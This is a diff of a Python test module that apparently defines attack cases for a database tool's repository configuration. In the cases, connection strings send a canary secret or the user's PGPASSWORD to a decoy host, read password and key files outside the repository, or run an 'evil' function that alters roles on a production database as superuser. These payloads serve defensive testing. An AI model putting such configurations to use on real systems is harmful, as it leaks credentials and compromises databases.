@@ -1,4 +1,7 @@
-"""The configuration of a repository: variables, hosts, templates, hooks, paths."""
+"""The configuration of a repository: variables, hosts, templates, hooks, paths.
+
+A variable may go to a local server. 0.0.0.0 leads to the decoy, but is no address of this machine by its name.
+"""
 import os
 
 from attack import Attack, Run, script
@@ -26,12 +29,12 @@ def only_header(trial):
 
 ATTACKS = [
     configured("url-variable", "url sends a variable to a host of the repository's choice",
-               'url: "postgresql://${CANARY_SECRET}@127.0.0.1:@PORT@/${CANARY_SECRET}"\n',
+               'url: "postgresql://${CANARY_SECRET}@0.0.0.0:@PORT@/${CANARY_SECRET}"\n',
                [Run("check", environment=NO_URL), Run("current", environment=NO_URL)]),
-    configured("url-variable-local", "the same as libpq keywords, to a Unix socket",
-               'url: "host=@DECOY@ user=u password=${CANARY_SECRET} dbname=x"\n', [Run("check", environment=NO_URL)]),
+    configured("url-variable-list", "the same as libpq keywords, to the second host of a list",
+               'url: "host=localhost,0.0.0.0 port=1,@PORT@ user=u password=${CANARY_SECRET} dbname=x"\n', [Run("check", environment=NO_URL)]),
     configured("url-password", "the person's PGPASSWORD goes to a host of the repository's choice",
-               'url: "postgresql://u@127.0.0.1:@PORT@/x"\n',
+               'url: "postgresql://u@0.0.0.0:@PORT@/x"\n',
                [Run("check", environment={"DATABASE_URL": None, "PGPASSWORD": "@PASSWORD@"})], may_connect=True),
     configured("url-passfile", "url names a file outside as the password file",
                'url: "host=127.0.0.1 port=@PORT@ user=u dbname=x passfile=@SECRET@ sslkey=@SECRET@ '
@@ -40,7 +43,7 @@ ATTACKS = [
     configured("url-service", "url names a service file outside", 'url: "service=x servicefile=@SECRET@"\n',
                [Run("check", environment=NO_URL)]),
     configured("scratch-url", "scratch_url in the repository: a variable to another host",
-               'scratch_url: "postgresql://u:${CANARY_SECRET}@127.0.0.1:@PORT@/${CANARY_SECRET}"\n', models=SPELT),
+               'scratch_url: "postgresql://u:${CANARY_SECRET}@0.0.0.0:@PORT@/${CANARY_SECRET}"\n', models=SPELT),
     configured("scratch-url-victim", "scratch_url in the repository names a server in use, as its superuser",
                'scratch_url: "host=@SOCKET@ port=5432 user=postgres dbname=production"\n',
                models='function { name: "evil" returns: "integer" language: "plpgsql" body: "BEGIN ALTER ROLE '
